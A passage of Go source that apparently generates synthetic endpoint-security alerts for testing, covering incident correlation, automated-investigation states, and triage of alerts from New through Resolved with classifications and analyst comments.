			}
		}
	}
	return &alertTemplates[pick(g.rng, choices)]
}

// incidentFor returns the incident an alert joins: alerts on one machine
// within two hours share an incident, as the service correlates them.
func (g *alertGen) incidentFor(machineID string, at time.Time) int64 {
	s := g.set
	s.init()
	if s.nextIncident == 0 {
		s.nextIncident = 100 + int64(g.rng.IntN(900))
	}
	if inc, ok := s.incidents[machineID]; ok && at.Sub(inc.last) < 2*time.Hour && at.Sub(inc.last) > -2*time.Hour && g.rng.IntN(3) > 0 {
		s.incidents[machineID] = openIncident{id: inc.id, last: at}
		return inc.id
	}
	id := s.nextIncident
	s.nextIncident++
	s.incidents[machineID] = openIncident{id: id, last: at}
	return id
}

var investigationStates = []weighted[string]{{"Running", 20}, {"PendingApproval", 5}, {"SuccessfullyRemediated", 30}, {"Benign", 20},
	{"PartiallyRemediated", 5}, {"Queued", 5}, {"Failed", 2}, {"TerminatedBySystem", 3}}

var noInvestigationStates = []weighted[string]{{"UnsupportedAlertType", 50}, {"UnsupportedOs", 10}, {"SuppressedAlert", 5},
	{"PreexistingAlert", 10}, {"Terminated", 5}, {"Unknown", 5}}

// investigation gives Windows alerts an automated investigation most of
// the time; others say why they have none.
func (g *alertGen) investigation(a *alert, m *machine) {
	s := g.set
	if s.nextInvestigat == 0 {
		s.nextInvestigat = 1 + int64(g.rng.IntN(50))
	}
	onWindows := m == nil || platformFamily(m.OSPlatform) == winClient || platformFamily(m.OSPlatform) == winServer
	if onWindows && g.rng.IntN(10) < 6 {
		a.InvestigationID = some(s.nextInvestigat)
		s.nextInvestigat++
		a.InvestigationState = some(pick(g.rng, investigationStates))
		return
	}
	a.InvestigationState = some(pick(g.rng, noInvestigationStates))
	if !onWindows {
		a.InvestigationState = some("UnsupportedOs")
	}
}

var (
	classificationWeights = []weighted[string]{{"TruePositive", 40}, {"FalsePositive", 25}, {"InformationalExpectedActivity", 20}}
	determinations        = map[string][]string{
		"TruePositive":                  {"MultiStagedAttack", "MaliciousUserActivity", "CompromisedUser", "Malware", "Phishing", "UnwantedSoftware", "Other"},
		"InformationalExpectedActivity": {"SecurityTesting", "LineOfBusinessApplication", "ConfirmedActivity", "Other"},
		"FalsePositive":                 {"NotMalicious", "InsufficientData", "Other"},
	}
	resolveComments = []string{"Confirmed with the user; machine reimaged.", "Expected admin activity, approved change ticket.",
		"Remediated by automated investigation.", "Benign: security team test.", "Blocked before execution, no further action."}
	progressComments = []string{"Investigating, contacted the user.", "Escalated to tier 2.", "Collected investigation package.",
		"Isolated the machine while we look into it."}
)

// triage moves an alert on its way: New → InProgress (assigned) →
// Resolved (classified, often commented). at is when it happens.
func (g *alertGen) triage(a *alert, at time.Time, to string) {
	r := g.rng
	switch to {
	case "InProgress":
		a.Status = "InProgress"
		if !a.AssignedTo.OK {
			a.AssignedTo = some(g.user().upn)
		}
		if r.IntN(3) == 0 {
			g.comment(a, at, progressComments[r.IntN(len(progressComments))])
		}
	case "Resolved":
		a.Status = "Resolved"
		a.ResolvedTime = at.UTC().Truncate(100 * time.Nanosecond)
		if !a.AssignedTo.OK {
			a.AssignedTo = some([]string{"API Action", "Automation", g.user().upn}[r.IntN(3)])
		}
		if r.IntN(100) < 85 {
			c := pick(r, classificationWeights)
			ds := determinations[c]
			a.Classification, a.Determination = some(c), some(ds[r.IntN(len(ds))])
		}
		if a.InvestigationState.OK && a.InvestigationState.V == "Running" {
			a.InvestigationState = some("SuccessfullyRemediated")
		}
		if r.IntN(2) == 0 {
			g.comment(a, at, resolveComments[r.IntN(len(resolveComments))])
		}
	}
}

func (g *alertGen) comment(a *alert, at time.Time, text string) {
	a.Comments = append(a.Comments, alertComment{Comment: text, CreatedBy: g.user().upn, CreatedTime: at.UTC().Truncate(100 * time.Nanosecond)})
}

// change makes one realistic change to a (a copy), at at: triage, a new
// comment, more evidence, or the investigation moving on.
func (g *alertGen) change(a *alert, at time.Time) {
	r := g.rng
	switch n := r.IntN(10); {
	case a.Status == "New" && n < 6:
		g.triage(a, at, "InProgress")
	case a.Status != "Resolved" && n < 8:
		g.triage(a, at, "Resolved")
	case n < 9:
		m := g.machineByID(a.MachineID)
		c := &alertCtx{a: a, m: m, user: g.user(), at: at, first: a.FirstEventTime}
		switch r.IntN(3) {
		case 0:
			g.addFile(c, g.dropper(c), "Detected")
		case 1:
			g.addNetwork(c, true)
		default:
			g.addProcess(c, g.shell(c), g.shell(c).name, lolbin("explorer.exe"), "")
		}
	default:
		g.comment(a, at, progressComments[r.IntN(len(progressComments))])
		if a.InvestigationState.OK && a.InvestigationState.V == "Running" {
			a.InvestigationState = some("SuccessfullyRemediated")
		}
	}
}

func (g *alertGen) machineByID(id string) *machine {
	if g.byID == nil {
		g.byID = make(map[string]*machine, len(g.machines))
		for _, m := range g.machines {
			g.byID[strings.ToLower(m.ID)] = m
		}
	}
	return g.byID[strings.ToLower(id)]
}

// history makes n alerts spread over the 30 days before now, triaged as a
// real queue would be: the older, the more likely resolved.
func (g *alertGen) history(n int, now time.Time) []*alert {
	r := g.rng
	created := make([]time.Time, n)
	for i := range created {
		created[i] = now.Add(-time.Duration(r.Int64N(int64(30 * 24 * time.Hour))))
	}
	// In creation order, so that incidents correlate in time.
	slices.SortFunc(created, time.Time.Compare)
	out := make([]*alert, 0, n)
	for _, c := range created {
		a := g.newAlert(newAlertOptions{created: c, noMachine: r.IntN(200) == 0})
		age := now.Sub(c)
		last := c.Add(time.Duration(1+r.IntN(120)) * time.Second)
		switch p := r.IntN(100); {
		case age > 72*time.Hour && p < 80, age > 24*time.Hour && p < 50, p < 10:
			at := c.Add(time.Duration(r.Int64N(int64(min(age, 48*time.Hour)))))
			if r.IntN(2) == 0 {
				g.triage(a, c.Add(time.Duration(r.Int64N(int64(at.Sub(c)+1)))), "InProgress")
			}
			g.triage(a, at, "Resolved")
			last = at
		case age > 2*time.Hour && p < 90:
			at := c.Add(time.Duration(r.Int64N(int64(age))))
			g.triage(a, at, "InProgress")
			last = at
		}
		a.LastUpdateTime = sqlDatetime(last)
		out = append(out, a)
	}
	return out
}
